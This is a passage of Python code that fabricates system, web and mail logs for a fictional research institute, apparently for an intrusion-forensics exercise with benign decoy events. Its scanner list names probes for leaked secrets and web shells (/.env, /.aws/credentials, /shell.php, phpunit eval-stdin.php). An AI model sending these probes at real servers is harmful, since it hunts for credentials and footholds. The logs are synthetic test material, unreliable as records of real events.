            sysd(h, at(d, "%d:%d" % (r.randint(0, 5), r.randint(0, 59))) + fuzz(), ("apt-daily.service", "Daily apt download activities"), 3)
            sysd(h, at(d, "6:%d" % r.randint(5, 58)) + fuzz(), ("apt-daily-upgrade.service", "Daily apt upgrade and clean activities"), 2)
            sysd(h, at(d, "%d:%d" % (r.randint(0, 3), r.randint(0, 59))) + fuzz(), ("man-db.service", "Daily man-db regeneration"), 1)
            sysd(h, at(d, "%d:%d" % (r.randint(12, 22), r.randint(0, 59))) + fuzz(), ("systemd-tmpfiles-clean.service", "Cleanup of Temporary Directories"), 0.1)
            if php:
                for hr in range(24):
                    for m in (9, 39):
                        sysd(h, at(d, "%d:%d:12" % (hr, m)) + fuzz(), ("phpsessionclean.service", "Clean php session files"), 0.1)
        # nightly backup, pulled by files1
    r = R("backup")
    for d in ALLDAYS:
        t = at(d, "1:05:01") + S(r.random())
        cron_job(files1, t, "backup", "/usr/local/bin/pull-backups", 2300)
        t += S(2)
        for h, mins in ((web1, 6), (web2, 5), (patch1, 2), (mail1, 9), (db1, 14)):
            dur = mins * 60 * r.uniform(0.8, 1.2)
            s = Ssh(h, t, BACKUP, files1.ip, keytype="RSA")
            s.close(t + S(dur))
            t += S(dur + 1.5)


# ------------------------------------------------------------- ordinary work

ADMIN_CMDS = [["ls", "-la"], ["df", "-h"], ["uptime"], ["free", "-m"], ["ss", "-tlnp"], ["ps", "aux"], ["less", "/etc/hosts"],
              ["htop"], ["last", "-n", "20"], ["ip", "-br", "addr"], ["grep", "-c", "error", "/var/log/syslog"], ["id"],
              ["git", "-C", "/srv/admin/config", "pull"], ["date"], ["cat", "/etc/os-release"], ["whoami"]]
ADMIN_SUDO = {
    "web1": [["systemctl", "status", "nginx"], ["tail", "-n", "100", "/var/log/nginx/error.log"], ["nginx", "-t"],
             ["vim", "/etc/nginx/sites-available/portal.conf"], ["systemctl", "status", "php8.2-fpm"], ["apt", "update"],
             ["journalctl", "-u", "php8.2-fpm", "--since", "today"], ["certbot", "certificates"]],
    "web2": [["systemctl", "status", "apache2"], ["tail", "-n", "80", "/var/log/apache2/error.log"], ["apachectl", "configtest"],
             ["apt", "update"], ["apt", "list", "--upgradable"], ["vim", "/etc/apache2/sites-available/data.conf"]],
    "db1": [["systemctl", "status", "postgresql"], ["tail", "-n", "60", "/var/log/postgresql/postgresql-15-main.log"],
            ["apt", "update"], ["journalctl", "-u", "postgresql@15-main", "--since", "yesterday"]],
    "files1": [["systemctl", "status", "smbd"], ["zpool", "status"], ["apt", "update"], ["du", "-sh", "/srv/research"],
               ["tail", "-n", "50", "/var/log/syslog"], ["chown", "-R", "root:research", "/srv/research/inbox"]],
    "mail1": [["mailq"], ["tail", "-n", "200", "/var/log/mail.log"], ["systemctl", "reload", "postfix"], ["apt", "update"],
              ["vim", "/etc/postfix/header_checks"], ["doveadm", "who"]],
    "patch1": [["systemctl", "status", "nginx"], ["apt", "update"], ["ls", "-l", "/srv/patch/release"], ["tail", "-n", "50", "/var/log/syslog"]],
    "bastion1": [["systemctl", "status", "ssh"], ["apt", "update"], ["tail", "-n", "100", "/var/log/auth.log"],
                 ["nft", "list", "ruleset"], ["journalctl", "-u", "ssh", "--since", "today"], ["lastb", "-n", "30"]],
}
HEALTH = [["curl", "-sI", "https://www.%s/health" % DOMAIN], ["curl", "-fsS", "-o", "/dev/null", "http://127.0.0.1/health"],
          ["wget", "-q", "--spider", "https://data.%s/" % DOMAIN], ["curl", "-s", "http://127.0.0.1:9100/metrics"]]
RESEARCH_CMDS = [["ls", "-lh", "/srv/research"], ["du", "-sh", "."], ["head", "-n", "20", "stations.csv"], ["python3", "qc_tides.py"],
                 ["wc", "-l", "buoy-2026.csv"], ["tar", "-czf", "run-04.tar.gz", "run-04"], ["grep", "-n", "NaN", "salinity.csv"],
                 ["cp", "run-04.nc", "/srv/research/inbox/"], ["less", "README.txt"], ["ncdump", "-h", "grid.nc"], ["mkdir", "-p", "plots"],
                 ["vim", "notes.txt"], ["python3", "plot_waves.py", "--year", "2025"], ["rm", "-f", "tmp.dat"]]
PROV_CMDS = [["git", "pull"], ["ls", "-la"], ["php", "-m"], ["php", "-v"], ["php", "artisan", "view:clear"],
             ["vim", "config/portal.php"], ["composer", "install", "--no-dev"], ["cp", "config/portal.php", "config/portal.php.bak"],
             ["grep", "-rn", "deprecated", "src"], ["find", ".", "-name", "*.orig"], ["diff", "index.php", "index.php.bak"],
             ["curl", "-sI", "https://www.%s/" % DOMAIN], ["git", "status"], ["git", "log", "--oneline", "-5"], ["du", "-sh", "uploads"]]


def fill(s, r, t0, dur, cmds, sudo=(), nsudo=0, n=8):
    """commands spread over a session, in order of time"""
    times = sorted(r.random() for _ in range(n + nsudo))
    which = [True] * nsudo + [False] * n
    r.shuffle(which)
    last = t0 + S(2)
    for x, su in zip(times, which):
        t = max(last, t0 + S(3 + x * (dur - 12)))
        if t > t0 + S(dur - 5):
            break
        if su and sudo:
            s.sudo(t, r.choice(sudo), dur=r.uniform(0.05, 3.0))
        else:
            s.exec(t, r.choice(cmds))
        last = t + S(3.2)


def office():
    r = R("office")
    admins = [WHO[a] for a in ("tahlers", "kbrandt", "jmoeller", "spetersen")]
    their = {"tahlers": [web1, web2, files1, db1, patch1, mail1, bastion1], "kbrandt": [bastion1, web1, web2, mail1],
             "jmoeller": [db1, db1, files1], "spetersen": [files1, mail1, patch1, web2]}
    for d in workdays():
        for a in admins:
            if r.random() < 0.06:
                continue
            for _ in range(r.randint(2, 4)):
                h = r.choice(their[a.account])
                t = at(d) + S(r.uniform(7.6, 17.6) * 3600)
                dur = r.uniform(240, 2400)
                home = a.home and r.random() < 0.2
                src = a.home if home else a.ip
                if h is bastion1:
                    s = Ssh(bastion1, t, a, src, pty=True)
                    fill(s, r, t, dur, ADMIN_CMDS, ADMIN_SUDO["bastion1"], r.randint(1, 3), r.randint(2, 5))
                    s.close(t + S(dur))
                    continue
                s = jump(a, h, t, dur, True, home)
                cmds = ADMIN_CMDS + (HEALTH if h in (web1, web2) else [])
                fill(s, r, t + S(2), dur - 4, cmds, ADMIN_SUDO[h.name], r.randint(1, 4), r.randint(2, 7))
        for p in STAFF:
            if p.role not in ("research", "director") or (p.account == "emathiesen" and d < 6):
                continue
            if r.random() < (0.62 if p.role == "research" else 0.1):
                for _ in range(r.choice([1, 1, 1, 2])):
                    t = at(d) + S(r.triangular(7.2, 19.2, 10) * 3600)
                    home = p.home and r.random() < 0.35
                    kind = r.random()
                    h = db1 if r.random() < 0.15 else files1
                    if kind < 0.4:
                        dur = r.uniform(10, 400)
                        s = jump(p, h, t, dur, False, home)
                        if h is files1:
                            if r.random() < 0.5:
                                s.remote(t + S(2.4), "rsync --server -logDtpre.iLsfxCIvu . /srv/research/%s/" % p.account)
                            else:
                                s.remote(t + S(2.4), "/usr/lib/openssh/sftp-server")
                    else:
                        dur = r.uniform(300, 7200)
                        s = jump(p, h, t, dur, True, home)
                        fill(s, r, t + S(2), dur - 4, RESEARCH_CMDS, n=r.randint(2, 7))
                    if r.random() < 0.04:                          # a wrong key offered first
                        bastion1.log("auth", t - S(20), "sshd", bastion1.pid(t - S(20)),
                                     "Connection closed by authenticating user %s %s port %d [preauth]" %
                                     (p.account, p.home if home else p.ip, r.randint(33000, 60000)))
    # a few researchers also look in at weekends and on the holiday
    for d in [x for x in ALLDAYS if x not in workdays()]:
        for p in r.sample([x for x in STAFF if x.role == "research" and x.home], 2):
            t = at(d) + S(r.uniform(10, 20) * 3600)
            dur = r.uniform(300, 3000)
            s = jump(p, files1, t, dur, True, True)
            fill(s, r, t + S(2), dur - 4, RESEARCH_CMDS, n=r.randint(2, 5))


def provider():
    r = R("provider")
    for d in workdays():
        for p in PROVIDER:
            for _ in range(r.choice([0, 1, 1, 2, 2])):
                h = r.choice([web1, web1, web2])
                t = at(d) + S(r.uniform(7.4, 17.2) * 3600)
                root = "/var/www/portal" if h is web1 else "/var/www/data"
                if r.random() < 0.4:                               # deploy one way or another
                    s = Ssh(h, t, p, p.ip)
                    dur = r.uniform(3, 60)
                    if r.random() < 0.5:
                        s.remote(t + S(0.6), "rsync --server -logDtpre.iLsfxCIvu --delete . %s/" % root)
                    else:
                        s.remote(t + S(0.6), "/usr/lib/openssh/sftp-server")
                    s.close(t + S(dur))
                    t += S(dur + r.uniform(10, 50))
                dur = r.uniform(240, 2000)
                s = Ssh(h, t, p, p.ip, pty=True)
                s.cwd = root
                ng = [["systemctl", "reload", "nginx"], ["nginx", "-t"], ["systemctl", "reload", "php8.2-fpm"]] if h is web1 else \
                     [["systemctl", "reload", "apache2"], ["apachectl", "configtest"]]
                logfile = "/var/log/nginx/access.log" if h is web1 else "/var/log/apache2/access.log"
                fill(s, r, t, dur, PROV_CMDS + [["tail", "-n", "50", logfile]] * 2, ng, r.randint(1, 2), r.randint(4, 10))
                s.close(t + S(dur))
    # php makes thumbnails of pictures that editors upload (ordinary www-data commands)
    for d in workdays():
        for _ in range(r.randint(2, 6)):
            t = at(d) + S(r.uniform(8, 18) * 3600)
            n = r.randint(1000, 9999)
            cmd = "convert /var/www/portal/uploads/img-%d.jpg -resize 320x240 /var/www/portal/uploads/thumb-%d.jpg" % (n, n)
            p = web1.pid(t)
            a_exec(web1, t, ["sh", "-c", cmd], 33, UNSET, str(UNSET), "(none)", "/var/www/portal", web1.fpm, p, path="/bin/sh")
            a_exec(web1, t + S(0.003), cmd.split(), 33, UNSET, str(UNSET), "(none)", "/var/www/portal", web1.fpm, p)
            e = WHO[r.choice(["lharms", "rtiedemann", "sboysen"])]
            nginx(web1, t - S(0.2), e.ip, "POST /admin/media/upload HTTP/1.1", 302, 312, "https://www.%s/admin/media" % DOMAIN, UA[1])


def controls():
    """benign things that look a little like the intrusion"""
    # a new colleague gets an account (Tue 5 May, working hours)
    t = at(5, "10:12:30")
    a = WHO["spetersen"]
    s = jump(a, files1, t, 900)
    p = s.sudo(t + S(60), ["useradd", "-m", "-s", "/bin/bash", "-c", "Enna Mathiesen", "emathiesen"], dur=0.5)
    new_account(files1, t + S(60.2), s, p, "emathiesen", 1025, "/bin/bash")
    p = s.sudo(t + S(95), ["usermod", "-aG", "research", "emathiesen"], dur=0.2)
    files1.log("auth", t + S(95.1), "usermod", p, "add 'emathiesen' to group 'research'")
    files1.log("auth", t + S(95.101), "usermod", p, "add 'emathiesen' to shadow group 'research'")
    # the network admin looks at packets once (Wed 6 May)
    t = at(6, "10:41:07")
    k = WHO["kbrandt"]
    s = Ssh(bastion1, t, k, k.ip, pty=True)
    s.sudo(t + S(40), ["tcpdump", "-ni", "eth0", "-c", "500", "port", "123"], dur=210)
    bastion1.kernel(t + S(40.3), "device eth0 entered promiscuous mode")
    bastion1.kernel(t + S(249.7), "device eth0 left promiscuous mode")
    s.close(t + S(400))
    # an administrator edits a sudoers file with visudo (Thu 7 May, working hours)
    t = at(7, "11:05:18.402")
    a = WHO["tahlers"]
    s = jump(a, web1, t, 500)
    f = "/etc/sudoers.d/20-hafenlicht"
    av = ["visudo", "-f", f]
    p = s.sudo(t + S(33), av, dur=140)
    a_write(web1, t + S(33.2), av, f + ".tmp", "ident", "CREATE", 0, a.uid, s.ses, s.tty, s.home, s.sudo_pid, p, mode="0100440", flags="241")
    web1.aud(t + S(171.3), [
        syscall(web1, 82, p, s.sudo_pid, a.uid, 0, s.ses, s.tty.replace("/", ""), "visudo", "/usr/sbin/visudo", "ident", 5),
        ("CWD", 'cwd="/home/tahlers"', None),
        path_rec(web1, 0, "/etc/sudoers.d/", "PARENT", 0, "040755"), path_rec(web1, 1, "/etc/sudoers.d/", "PARENT", 0, "040755"),
        path_rec(web1, 2, f + ".tmp", "DELETE", 0, "0100440"), path_rec(web1, 3, f, "DELETE", 0, "0100440"),
        path_rec(web1, 4, f, "CREATE", 0, "0100440"),
        ("PROCTITLE", "proctitle=" + proctitle(av), None)])
    # releases by the release manager (one a week, working hours)
    for d, ver in ((6, "4.1.7"), (12, "4.1.8"), (19, "4.2.0")):
        t = at(d, "14:2%d:11" % (d % 7))
        a = WHO["spetersen"]
        s = jump(a, patch1, t, 700)
        f = "ics-connect-%s.tar.gz" % ver
        s.exec(t + S(30), ["ls", "-l", "/srv/patch/staging"])
        s.exec(t + S(55), ["sha256sum", "/srv/patch/staging/" + f])
        p = s.sudo(t + S(80), ["install", "-m", "0644", "/srv/patch/staging/" + f, "/srv/patch/release/" + f], dur=0.1)
        a_write(patch1, t + S(80.04), ["install", "-m", "0644", "/srv/patch/staging/" + f, "/srv/patch/release/" + f],
                "/srv/patch/release/" + f, "patch", "CREATE", 0, a.uid, s.ses, s.tty, s.home, s.sudo_pid, p, flags="c1")
        p = s.sudo(t + S(120), ["tee", "-a", "/srv/patch/release/SHA256SUMS"], dur=0.1)
        a_write(patch1, t + S(120.04), ["tee", "-a", "/srv/patch/release/SHA256SUMS"], "/srv/patch/release/SHA256SUMS", "patch",
                "NORMAL", 0, a.uid, s.ses, s.tty, s.home, s.sudo_pid, p, flags="441")


def new_account(h, t, s, pid, name, uid, shell, home=None):
    home = home or "/home/" + name
    h.log("auth", t, "useradd", pid, "new group: name=%s, GID=%d" % (name, uid))
    h.log("auth", t + 500, "useradd", pid, "new user: name=%s, UID=%d, GID=%d, home=%s, shell=%s, from=/dev/%s" %
          (name, uid, uid, home, shell, s.tty))
    tail = ' exe="/usr/sbin/useradd" hostname=%s addr=? terminal=%s res=success' % (h.name, s.tty)
    a_user(h, t + 200, "ADD_GROUP", pid, 0, s.uid, s.ses, 'op=add-group id=%d' % uid + tail)
    a_user(h, t + 700, "ADD_USER", pid, 0, s.uid, s.ses, 'op=add-user id=%d' % uid + tail)


def packages():
    """unattended upgrades and one manual upgrade on web2: dpkg.log, apt/history.log"""
    jobs = [(5, "6:31:12", "/usr/bin/unattended-upgrade", None, [("libssl3:amd64", "3.0.15-1~deb12u1", "3.0.16-1~deb12u1"), ("openssl:amd64", "3.0.15-1~deb12u1", "3.0.16-1~deb12u1")]),
            (9, "6:22:40", "/usr/bin/unattended-upgrade", None, [("tzdata:all", "2025b-0+deb12u1", "2026a-0+deb12u1")]),
            (13, "13:42:05", "apt upgrade", "tahlers (1001)", [("apache2:amd64", "2.4.62-1~deb12u2", "2.4.65-1~deb12u1"), ("apache2-bin:amd64", "2.4.62-1~deb12u2", "2.4.65-1~deb12u1"),
                                                               ("apache2-data:all", "2.4.62-1~deb12u2", "2.4.65-1~deb12u1"), ("apache2-utils:amd64", "2.4.62-1~deb12u2", "2.4.65-1~deb12u1")]),
            (20, "6:40:02", "/usr/bin/unattended-upgrade", None, [("libxml2:amd64", "2.9.14+dfsg-1.3~deb12u2", "2.9.14+dfsg-1.3~deb12u4")])]
    f = lambda t: local(t).strftime("%Y-%m-%d %H:%M:%S")
    for d, clock, cmd, who, pk in jobs:
        t = at(d, clock)
        D = lambda dt, m: web2.file("var/log/dpkg.log", t + S(dt), f(t + S(dt)) + " " + m)
        D(2, "startup archives unpack")
        dt = 2
        for n, o, w in pk:
            dt += 1
            D(dt, "upgrade %s %s %s" % (n, o, w))
            for st in ("half-configured", "unpacked", "half-installed", "unpacked"):
                D(dt, "status %s %s %s" % (st, n, o if st != "unpacked" or st == "half-configured" else o))
            D(dt, "status unpacked %s %s" % (n, w))
        D(dt + 1, "startup packages configure")
        for n, o, w in pk:
            dt += 1
            D(dt, "configure %s %s <none>" % (n, w))
            for st in ("unpacked", "half-configured", "installed"):
                D(dt, "status %s %s %s" % (st, n, w))
        g = lambda x: local(x).strftime("%Y-%m-%d  %H:%M:%S")
        lines = ["", "Start-Date: " + g(t), "Commandline: " + cmd] + (["Requested-By: " + who] if who else []) + \
                ["Upgrade: " + ", ".join("%s (%s, %s)" % x for x in pk), "End-Date: " + g(t + S(dt + 2))]
        web2.file("var/log/apt/history.log", t, "\n".join(lines))
    t = at(13, "13:40:20")
    s = jump(WHO["tahlers"], web2, t, 600)
    s.sudo(t + S(20), ["apt", "update"], dur=9)
    s.sudo(t + S(104.5), ["apt", "upgrade"], dur=24)


# ------------------------------------------------------------- web

UA = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.0.0 Safari/537.36",
      "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Safari/605.1.15",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 18_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Mobile/15E148 Safari/604.1",
      "Mozilla/5.0 (Android 15; Mobile; rv:138.0) Gecko/138.0 Firefox/138.0"]
BOTS = [("198.51.100.150", "Mozilla/5.0 (compatible; tidebot/2.1; +https://crawler.tidebot.example/about)"),
        ("203.0.113.31", "Mozilla/5.0 (compatible; OpenShelfCrawler/1.4; +https://openshelf.example/bot)"),
        ("192.0.2.199", "Mozilla/5.0 (compatible; ScholarHarvest/0.9; +https://harvest.example)")]
SCANS = ["/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/xmlrpc.php", "/wp-admin/setup-config.php", "/admin.php",
         "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.aws/credentials", "/backup.zip", "/config.json", "/shell.php", "/solr/admin/info/system",
         "/boaform/admin/formLogin", "/cgi-bin/luci/;stok=/locale", "/owa/auth/logon.aspx", "/server-status", "/.DS_Store", "/actuator/health",
         "/wp-content/plugins/file-manager/readme.txt", "/old/.env", "/api/.env", "/HNAP1", "/uploads/shell.php", "/db.sql"]
PAGES = {"web1": ["/", "/news", "/news/2026/coastal-report", "/projects", "/projects/north-reef", "/people", "/jobs", "/contact", "/publications",
                  "/publications?page=2", "/events", "/projects/tide-gauge-network", "/search?q=storm+surge", "/about", "/imprint"],
         "web2": ["/", "/datasets", "/datasets/tides-2025", "/datasets/salinity", "/api/v1/stations", "/api/v1/stations/17/latest", "/docs/api",
                  "/datasets/waves?format=csv", "/map", "/api/v1/series?station=4&days=7"]}
ASSETS = {"web1": ["/assets/app.css", "/assets/app.js", "/assets/logo.svg", "/uploads/thumb-1204.jpg", "/favicon.ico"],
          "web2": ["/static/main.css", "/static/map.js", "/static/tiles.json", "/favicon.ico"]}
CONN = {"web1": 1000, "web2": 1000}


def nginx(h, t, ip, req, status, size, ref="-", ua="-"):
    d = local(t)
    path = "var/log/nginx/access.log" if h is web1 else "var/log/apache2/access.log"
    h.file(path, t, '%s - - [%s] "%s" %d %d "%s" "%s"' % (ip, d.strftime("%d/%b/%Y:%H:%M:%S +0200"), req, status, size, ref, ua))


def web_error(h, t, ip, path, req, r):
    d = local(t)
    if h is web1:
        cid = 5000 + int((t - START) / US * 0.021)
        w = web1.fpm - 120
        head = "%s [error] %d#%d: *%d " % (d.strftime("%Y/%m/%d %H:%M:%S"), w, w, cid)
        p = path.split("?")[0]
        if p.endswith(".php"):
            m = 'FastCGI sent in stderr: "Primary script unknown" while reading response header from upstream, client: %s, server: www.%s, ' \
                'request: "%s", upstream: "fastcgi://unix:/run/php/php8.2-fpm.sock:", host: "www.%s"' % (ip, DOMAIN, req, DOMAIN)
        else:
            m = 'open() "/var/www/portal%s" failed (2: No such file or directory), client: %s, server: www.%s, request: "%s", host: "www.%s"' % \
                (p, ip, DOMAIN, req, DOMAIN)
        h.file("var/log/nginx/error.log", t, head + m)
    elif path.split("?")[0].endswith(".php"):
        h.file("var/log/apache2/error.log", t, "[%s] [proxy_fcgi:error] [pid %d:tid %d] [client %s:%d] AH01071: Got error 'Primary script unknown'" %
               (d.strftime("%a %b %d %H:%M:%S.") + "%06d %d" % (t % US, d.year), 2200 + d.day * 31, 140200000000000 + (t % 97) * 8192, ip, r.randint(33000, 60000)))
    elif path.startswith(("/.git", "/.env", "/server-status")):
        h.file("var/log/apache2/error.log", t, "[%s] [authz_core:error] [pid %d:tid %d] [client %s:%d] AH01630: client denied by server configuration: /var/www/data%s" %
               (d.strftime("%a %b %d %H:%M:%S.") + "%06d %d" % (t % US, d.year), 2200 + d.day * 31, 140200000000000 + (t % 97) * 8192, ip, r.randint(33000, 60000),
                path if not path.startswith("/server") else ""))


def websites():
    visitors = ["192.0.2.%d" % i for i in range(141, 254) if i != 199] + ["203.0.113.%d" % i for i in range(1, 60) if i != 31] + \
               ["198.51.100.%d" % i for i in range(130, 200) if i != 150]
    scanners = brute_ips()
    for h, base in ((web1, 95), (web2, 60)):
        r = R("web " + h.name)
        host = "www" if h is web1 else "data"
        for d in ALLDAYS:
            busy = 1.0 if d in workdays() else 0.55
            for _ in range(int(base * busy * r.uniform(0.8, 1.2))):
                t = at(d) + S(r.triangular(0, 24, 14.5) * 3600 * 0.999)
                inside = r.random() < 0.12 * busy
                ip = r.choice(STAFF).ip if inside else r.choice(visitors)
                ua = r.choice(UA)
                ref = r.choice(["-", "-", "https://search.example/", "https://www.uni-kestermark.example/links"])
                for _ in range(r.choice([1, 1, 2, 3, 4])):
                    pg = r.choice(PAGES[h.name])
                    if t >= END - S(30):
                        break
                    nginx(h, t, ip, "GET %s HTTP/%s" % (pg, "2.0" if h is web1 else "1.1"), 200 if r.random() < .96 else 304, r.randint(2100, 48000), ref, ua)
                    for a in r.sample(ASSETS[h.name], r.choice([0, 1, 2, 3])):
                        t += S(r.uniform(0.02, 0.3))
                        nginx(h, t, ip, "GET %s HTTP/%s" % (a, "2.0" if h is web1 else "1.1"), r.choice([200, 200, 304]), r.randint(400, 90000),
                              "https://%s.%s%s" % (host, DOMAIN, pg), ua)
                    ref = "https://%s.%s%s" % (host, DOMAIN, pg)
                    t += S(r.uniform(4, 80))
                if h is web1 and r.random() < 0.03 and t < END - S(60):
                    nginx(h, t, ip, "POST /contact HTTP/2.0", 302, 154, "https://www.%s/contact" % DOMAIN, ua)
            for ip, ua in BOTS:
                for _ in range(r.randint(25, 60)):
                    t = at(d) + int(r.random() * (DAY - S(2)))
                    if r.random() < 0.08:
                        nginx(h, t, ip, "GET /robots.txt HTTP/1.1", 200, 94, "-", ua)
                    else:
                        nginx(h, t, ip, "GET %s HTTP/1.1" % r.choice(PAGES[h.name]), 200, r.randint(2100, 48000), "-", ua)
            for _ in range(r.randint(4, 9)):                        # scanners
                t = at(d) + int(r.random() * (DAY - S(400)))
                ip = r.choice(scanners)
                ua = r.choice(["Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "Go-http-client/1.1", "-", UA[0], "curl/8.5.0"])
                for p in r.sample(SCANS, r.choice([1, 2, 4, 12])):
                    meth = "POST" if p.endswith(("eval-stdin.php", "xmlrpc.php", "formLogin")) else "GET"
                    req = "%s %s HTTP/1.1" % (meth, p)
                    st = 403 if h is web2 and p.startswith(("/.git", "/.env", "/server-status")) else 404
                    nginx(h, t, ip, req, st, 153 if h is web1 else 436, "-", ua)
                    web_error(h, t, ip, p, req, r)
                    t += S(r.uniform(0.2, 4))
            # a webmail window left open at home: it asks for new mail every ten minutes
            left_open = {8: ("dfalke", "21:12:40", 9), 11: ("mrossi", "20:31:05", 14), 16: ("ivossberg", "22:18:30", 30), 22: ("spetersen", "21:47:20", 11)}
            if h is web1 and d in left_open:
                who, clock, n = left_open[d]
                for i in range(n):
                    t = at(d, clock) + S(600 * i + r.uniform(0, 4))
                    nginx(h, t, WHO[who].home, "POST /webmail/?_task=mail&_action=refresh HTTP/2.0", 200, r.randint(180, 460),
                          "https://www.%s/webmail/?_task=mail" % DOMAIN, UA[0])
                    imap(mail1, t + S(0.1), who, web1.ip, 0.3, tls=False, r=r)
            if h is web1:                                           # webmail users
                for p in r.sample(STAFF, 9 if d in workdays() else 3):
                    if p.account == "emathiesen" and d < 6:
                        continue
                    t = at(d) + S(r.uniform(7.5, 20) * 3600)
                    ip, ua = (p.home or p.ip), r.choice(UA)
                    nginx(h, t, ip, "GET /webmail/ HTTP/2.0", 200, 5310, "-", ua)
                    nginx(h, t + S(8), ip, "POST /webmail/?_task=login HTTP/2.0", 302, 20, "https://www.%s/webmail/" % DOMAIN, ua)
                    imap(mail1, t + S(8.2), p.account, web1.ip, r.uniform(1, 3), tls=False, r=r)
                    for i in range(r.randint(2, 6)):
                        tt = t + S(9 + i * r.uniform(9, 40))
                        nginx(h, tt, ip, "GET /webmail/?_task=mail&_mbox=INBOX HTTP/2.0", 200, r.randint(8000, 30000), "https://www.%s/webmail/?_task=mail" % DOMAIN, ua)
                        imap(mail1, tt + S(0.1), p.account, web1.ip, 0.4, tls=False, r=r)


# ------------------------------------------------------------- mail

PARTNERS = ["uni-kestermark.example", "tidelab.example", "hafenamt-sund.example", "oceandata.example", "nordic-shelf.example", "coastwatch.example",
            "inst-meeresbau.example", "univ-brackwater.example", "polarkreis-akademie.example", "fjordstat.example", "deltaworks-tu.example", "geo-amt.example",
            "reefnet.example", "harbour-council.example", "seamark.example"]
PIP = {d: "198.51.100.%d" % (66 + i) for i, d in enumerate(PARTNERS)}
FIRST = "anna bjarne clara dirk eva finn greta henrik ilse jonas katja lars maren nora olaf pia rolf sina timo ute vera wim yara".split()
LAST = "albers beck cordes dahl evers frank gerdes holm iversen jensen krog lange mork nagel otten paulsen quist reimer stahl thiel ulrich vogt wolff".split()
ILL = "qxzwvkjhgf"
SUBJ_FILES = ["minutes.pdf", "draft-v3.docx", "budget-2026.xlsx", "poster.pdf", "station-map.png", "agenda.pdf", "review.pdf"]
VER = "2.3.19"


def contacts():
    r = R("contacts")
    out = []
    for d in PARTNERS:
        out += ["%s.%s@%s" % (r.choice(FIRST), x, d) for x in r.sample(LAST, 12)]
    return out


CONTACTS = contacts()


def m(t, ident, pid, msg):
    t += zlib.crc32(msg.encode()) % 2501
    mail1.log("mail", t, ident, pid, msg)


def qid(r):
    return "".join(r.choice("0123456789ABCDEF") for _ in range(10))


MP = {"qmgr": 1021, "master": 1019, "anvil": 0, "dovecot": 0}


def mpid(t, off):
    return 20000 + int((t - START) / S(97)) * 3 % 900000 + off


def sessid(r):
    return "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(12)) + "/" + \
           "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(3))


def imap(h, t, user, rip, dur, tls=True, r=None, deleted=0, expunged=0, fetched=None, body=0):
    s = sessid(r)
    p = mail1.pid(t)
    n = r.randint(0, 6) if fetched is None else fetched
    m(t, "dovecot", None, "imap-login: Login: user=<%s>, method=PLAIN, rip=%s, lip=%s, mpid=%d, %ssession=<%s>" %
      (user, rip, mail1.ip, p, "TLS, " if tls else "", s))
    m(t + S(dur), "dovecot", None, "imap(%s)<%d><%s>: Disconnected: Logged out in=%d out=%d deleted=%d expunged=%d trashed=0 "
      "hdr_count=%d hdr_bytes=%d body_count=%d body_bytes=%d" %
      (user, p, s, r.randint(90, 900) + 40 * n, r.randint(900, 4000) + body, deleted, expunged, n, n * r.randint(500, 700), n, body or n * r.randint(3000, 30000)))


def imap_fail(t, user, rip, r, n=1):
    m(t, "dovecot", None, "imap-login: Disconnected: Connection closed (auth failed, %d attempts in %d secs): user=<%s>, method=PLAIN, rip=%s, lip=%s, TLS, session=<%s>" %
      (n, 2 * n, user, rip, mail1.ip, sessid(r)))


def deliver_local(t, q, user, addr, r, delay):
    s = sessid(r).replace("/", "")[:10] + r.choice("ABCDEFG") + "AAA"
    p = mpid(t, 7)
    m(t, "dovecot", None, "lmtp(%s)<%d><%s>: msgid=<%s>: saved mail to INBOX" % (user, p, s, MSGID[q]))
    m(t + S(0.004), "postfix/lmtp", mpid(t, 1), "%s: to=<%s>, relay=mail1.%s[private/dovecot-lmtp], delay=%.2f, delays=%.2f/0.01/0.02/%.2f, dsn=2.0.0, status=sent "
      "(250 2.0.0 <%s> %s Saved)" % (q, addr, DOMAIN, delay, max(delay - .1, .05), 0.07, addr, s))


def deliver_remote(t, q, addr, r, delay):
    d = addr.split("@")[1]
    m(t, "postfix/smtp", mpid(t, 2 + r.randint(0, 0)), "%s: to=<%s>, relay=mx1.%s[%s]:25, delay=%.1f, delays=%.2f/%.2f/%.2f/%.2f, dsn=2.0.0, status=sent "
      "(250 2.0.0 Ok: queued as %s)" % (q, addr, d, PIP[d], delay, delay * .2, delay * .1, delay * .3, delay * .4, qid(r)))


MSGID = {}


def bymail(addr):
    return next((p.account for p in STAFF if p.mail == addr), None)


def header(t, q, name, sender, rcpt, client, helo):
    m(t, "postfix/cleanup", mpid(t, 4), '%s: warning: header Content-Disposition: attachment; filename="%s" from %s; from=<%s> to=<%s> proto=ESMTP helo=<%s>' %
      (q, name, client, sender, rcpt, helo))


def incoming(t, sender, rcpts, size, r, attach=None):
    d = sender.split("@")[1]
    ip = PIP[d]
    client = "mx1.%s[%s]" % (d, ip)
    q, p = qid(r), mpid(t, 3)
    MSGID[q] = "%s.%s@%s" % (hexid(r, 8), hexid(r, 6), d)
    m(t, "postfix/smtpd", p, "connect from " + client)
    m(t + S(0.2), "postfix/smtpd", p, "Anonymous TLS connection established from %s: TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits) key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256" % client)
    m(t + S(0.5), "postfix/smtpd", p, "%s: client=%s" % (q, client))
    m(t + S(0.55), "postfix/cleanup", mpid(t, 4), "%s: message-id=<%s>" % (q, MSGID[q]))
    if attach:
        header(t + S(0.56), q, attach, sender, rcpts[-1], client, "mx1." + d)
    m(t + S(0.7), "postfix/qmgr", MP["qmgr"], "%s: from=<%s>, size=%d, nrcpt=%d (queue active)" % (q, sender, size, len(rcpts)))
